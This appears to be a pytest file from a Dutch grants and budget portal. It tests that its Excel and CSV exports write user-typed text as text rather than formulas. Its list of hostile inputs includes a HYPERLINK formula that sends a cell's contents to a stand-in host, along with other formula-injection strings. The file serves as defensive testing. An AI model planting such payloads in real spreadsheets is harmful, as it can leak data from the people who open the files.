"""Every export writes typed text as text, on both databases: a title such as =HYPERLINK(…) is
no formula in the municipality's Excel, '#N/A' no error value, a control character does not
make the file unreadable. One writer (portal/lib/xlsx.py) serves every export; each export is
downloaded here through its route, with every text people type set to each hostile text in turn.
"""

from __future__ import annotations

import ast
import csv
import io
import re
from collections.abc import Sequence
from pathlib import Path

import httpx
import openpyxl
import pytest

from ledger.books.tables import Account, BudgetYear, CatalogueEntry, Entry, Project
from ledger.projects import exports as ledger_exports
from portal.accounts.tables import Network, Organisation, Region, User
from portal.lib.xlsx import clean_text, csv_cell, reads_as_formula, xlsx_workbook
from proposals import exports as proposal_exports
from proposals.tables import BudgetLine, Proposal, Round, Theme
from review import exports as review_exports
from tests import factories
from tests.portal.test_access_matrix import World
from tests.portal.test_access_matrix import world as world  # the fixture
from tests.proposals.conftest import zw as zw  # the fixture
from tests.web import log_in

ROOT = Path(__file__).resolve().parents[2]

HOSTILE = [
    '=HYPERLINK("http://x"&B2,"Klik")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "Titel met\x07bel",
    "#N/A",
    "Niet-teken\uffff",
]


def shown(typed: str) -> str:
    """What a spreadsheet shows of a typed text: the same, without what it cannot hold."""
    return typed.replace("\x07", "").replace("\uffff", "")


async def type_everywhere(text: str) -> None:
    """`text` in every field people type that an export shows."""
    await Network.update({Network.name: text}, force=True)
    await Region.update({Region.name: text}, force=True)
    await Organisation.update({Organisation.name: text}, force=True)
    await User.update({User.name: text}, force=True)
    await Round.update({Round.title: text}, force=True)
    await Theme.update({Theme.name: text}, force=True)
    await Proposal.update({Proposal.title: text, Proposal.summary: text}, force=True)
    await BudgetLine.update({BudgetLine.description: text}, force=True)
    await BudgetYear.update({BudgetYear.grant_reference: text}, force=True)
    await Account.update({Account.name: text}, force=True)
    await Project.update(
        {Project.title: text, Project.recipient: text, Project.decision_reference: text},
        force=True,
    )
    await Entry.update({Entry.reason: text, Entry.document_reference: text}, force=True)
    await CatalogueEntry.update(
        {CatalogueEntry.title: text, CatalogueEntry.results_text: text}, force=True
    )


async def download(client: httpx.AsyncClient, path: str, world: World) -> httpx.Response:
    response = await client.get(path.format(**world.values))
    assert response.status_code == 200, response.text[:2000]
    return response


# --- .xlsx ------------------------------------------------------------------------------------

XLSX_EXPORTS = {
    "voorstellen": "/n/zuid-west/voorstellen/export.xlsx?lijst=alle",
    "themas": "/n/zuid-west/projectenbank/themas.xlsx",
    "begrotingssjabloon": "/n/zuid-west/voorstellen/{proposal_id}/begroting/sjabloon.xlsx",
    "spuk": "/n/zuid-west/begroting/{year_id}/spuk.xlsx",
}


def xlsx_cells(content: bytes) -> list[tuple[str, object, str]]:
    """(sheet!cell, value, type) of every cell with a value; the file must be readable."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [
        (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def formulas(cells: Sequence[tuple[str, object, str]]) -> dict[str, object]:
    return {where: value for where, value, data_type in cells if data_type == "f"}


@pytest.mark.parametrize("path", list(XLSX_EXPORTS.values()), ids=list(XLSX_EXPORTS))
async def test_xlsx_export_writes_typed_text_as_typed(
    path: str, world: World, client: httpx.AsyncClient
) -> None:
    await log_in(client, await factories.email_of(world.users["coordinator"]))
    # The formulas the portal writes itself (the SPUK totals and checks, the budget template's
    # hours × rate): the same, wherever they are, whatever people typed.
    own_formulas = formulas(xlsx_cells((await download(client, path, world)).content))
    for typed in HOSTILE:
        await type_everywhere(typed)
        response = await download(client, path, world)
        assert response.headers["content-type"].startswith(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        )
        # Figures and names of a network: never kept by a cache or the browser.
        assert response.headers["cache-control"] == "private, no-store"
        assert response.headers["content-disposition"].startswith("attachment; filename=")
        cells = xlsx_cells(response.content)
        assert formulas(cells) == own_formulas, f"{typed!r} became a formula"
        errors = [cell for cell in cells if cell[2] == "e"]
        assert not errors, f"{typed!r} became an error value: {errors}"
        as_typed = [cell for cell in cells if cell[1] == shown(typed)]
        assert as_typed, f"{typed!r} is not in the export as typed"
        assert all(data_type == "s" for _, _, data_type in as_typed), as_typed
        assert not any(
            isinstance(value, str) and clean_text(value) != value for _, value, _ in cells
        )


# --- CSV --------------------------------------------------------------------------------------

CSV_EXPORTS = {
    "voorstellen": (
        "/n/zuid-west/voorstellen/export.csv?lijst=alle",
        proposal_exports.LIST_COLUMNS,
    ),
    "mutaties": (
        "/n/zuid-west/begroting/{year_id}/mutaties/export.csv",
        ledger_exports.ENTRY_COLUMNS,
    ),
    "scores": (
        "/n/zuid-west/beoordeling/rondes/{round_id}/scores.csv",
        review_exports.SCORE_COLUMNS,
    ),
}


@pytest.mark.parametrize(("path", "columns"), list(CSV_EXPORTS.values()), ids=list(CSV_EXPORTS))
async def test_csv_export_marks_formula_text_as_text(
    path: str, columns: list[tuple[str, str]], world: World, client: httpx.AsyncClient
) -> None:
    await log_in(client, await factories.email_of(world.users["coordinator"]))
    text_columns = [index for index, (_, kind) in enumerate(columns) if kind == "text"]
    for typed in HOSTILE:
        await type_everywhere(typed)
        response = await download(client, path, world)
        assert response.headers["content-type"].startswith("text/csv")
        header, *rows = csv.reader(
            io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"
        )
        assert header == [name for name, _ in columns]
        assert rows
        texts = [row[index] for row in rows for index in text_columns]
        expected = ("'" if reads_as_formula(shown(typed)) else "") + shown(typed)
        assert expected in texts, f"{typed!r} is not in the export as {expected!r}: {texts}"
        assert not any(reads_as_formula(text) for text in texts), texts
        assert not any(clean_text(text) != text for text in texts), texts


# --- The rule itself --------------------------------------------------------------------------


@pytest.mark.parametrize("typed", HOSTILE)
def test_one_rule_for_every_cell(typed: str) -> None:
    content = xlsx_workbook("Proef", "Blad", [("Tekst", "text")], [[typed]])
    [(_, header, _), (_, value, data_type)] = xlsx_cells(content)
    assert header == "Tekst"
    assert (value, data_type) == (shown(typed), "s")
    if reads_as_formula(shown(typed)):
        assert csv_cell(typed, "text") == "'" + shown(typed)
    else:
        assert csv_cell(typed, "text") == shown(typed)


def test_what_a_worksheet_cannot_hold_is_left_out() -> None:
    assert clean_text("a\x00b\x07c\x1fd\ufffee\uffff") == "abcde"
    assert clean_text("lone \ud800surrogate") == "lone surrogate"
    assert clean_text("tab\tline\ncr\r € é \u202e") == "tab\tline\ncr\r € é \u202e"


@pytest.mark.parametrize(
    "text", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1", "#N/A", "#DIV/0!", "#REF!", "#VALUE!"]
)
def test_what_reads_as_a_formula(text: str) -> None:
    assert reads_as_formula(text)


@pytest.mark.parametrize("text", ["Gewoon", "", " =1", "1+1", "#N/B", "n/a", "'=1", "€ -2"])
def test_what_reads_as_text(text: str) -> None:
    assert not reads_as_formula(text)


def test_numbers_are_not_marked_in_csv() -> None:
    assert csv_cell(-5, "number") == "-5"
    assert csv_cell(-5, "money") == "-0,05"
    assert csv_cell("-5", "number") == "'-5"  # a text, whatever its column says


def test_spuk_marks_text_by_the_same_rule() -> None:
    from openpyxl import Workbook

    from ledger.projects import spuk

    writer = spuk._Writer(spuk._Styles(Workbook(write_only=True).create_sheet("Blad")))
    for typed in HOSTILE:
        cell = writer.text(typed)
        text = shown(typed)
        if reads_as_formula(text):
            assert isinstance(cell, spuk._Cell) and ' t="inlineStr">' in cell.xml, typed
        else:
            assert cell == text


# --- One writer -------------------------------------------------------------------------------


def _sources() -> dict[str, str]:
    return {
        str(path.relative_to(ROOT)): path.read_text()
        for package in ("portal", "proposals", "review", "ledger")
        for path in (ROOT / package).rglob("*.py")
    }


def test_one_way_to_send_a_file() -> None:
    """A file goes out through portal/lib/downloads.py (exports) or portal/lib/uploads.py (uploads),
    which set its name and keep it out of caches; no other module writes the header."""
    senders = {name for name, text in _sources().items() if "content-disposition" in text.lower()}
    assert senders <= {"portal/lib/downloads.py", "portal/lib/uploads.py"}, senders
    # A stored upload is streamed from disk (Litestar's File), never read whole into memory.
    uploads = _sources()["portal/lib/uploads.py"]
    assert "File(" in uploads and "read_bytes" not in uploads


def test_one_writer_of_workbooks() -> None:
    """Workbooks are made in portal/lib/xlsx.py; the SPUK workbook streams its cells' XML into an
    openpyxl file (for speed) with portal/lib/xlsx_stream.py, by portal/lib/xlsx.py's rule for text."""
    makers = {name for name, text in _sources().items() if re.search(r"\bWorkbook\(", text)}
    assert makers == {"portal/lib/xlsx.py", "portal/lib/xlsx_stream.py"}
    typers = {name for name, text in _sources().items() if re.search(r"\.data_type\s*=", text)}
    assert typers == {"portal/lib/xlsx.py"}


def test_the_writer_imports_no_domain() -> None:
    tree = ast.parse((ROOT / "portal" / "lib" / "xlsx.py").read_text())
    imported = {
        name.split(".")[0]
        for node in ast.walk(tree)
        for name in (
            [alias.name for alias in node.names]
            if isinstance(node, ast.Import)
            else [node.module or ""]
            if isinstance(node, ast.ImportFrom)
            else []
        )
    }
    assert not imported & {"proposals", "review", "ledger"}, imported
